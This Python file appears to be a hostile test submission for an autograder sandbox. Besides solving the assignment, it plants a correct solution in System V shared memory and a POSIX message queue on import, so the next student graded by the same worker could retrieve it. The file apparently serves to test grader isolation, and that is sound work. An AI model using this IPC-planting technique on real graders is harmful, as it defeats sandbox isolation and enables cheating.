"""Hostile (sequence, with warm_5_ipc_reader): leaves its own correct source where the next
student graded by the same worker might look, in System V shared memory and a POSIX message
queue, which live in the kernel's IPC namespace, outside every folder the zygote wipes. It is
correct itself (7/7 wherever it runs): what it plants is the attack."""

import ctypes
import inspect
import os
import sys

from attack import correct_filter

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
KEY = 0x67726472  # "grdr"
SIZE = 1 << 16


def my_imfilter(image, filter):
    return correct_filter(image, filter)


def create_hybrid_image(image1, image2, filter):
    import numpy as np

    low = correct_filter(image1, filter)
    high = image2 - correct_filter(image2, filter)
    return low, high, np.clip(low + high, 0.0, 1.0)


def _plant():
    source = (inspect.getsource(sys.modules["attack"]) + "\n").encode()
    shm = _libc.shmget(KEY, SIZE, 0o1666)  # IPC_CREAT | 0666
    if shm >= 0:
        address = _libc.shmat(shm, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memmove(address, source[:SIZE - 1] + b"\0", min(len(source) + 1, SIZE))
    queue = _libc.mq_open(b"/grader_hostile_plant", os.O_CREAT | os.O_WRONLY, 0o666, None)
    if queue >= 0:
        _libc.mq_send(queue, b"planted", 7, 0)


_plant()
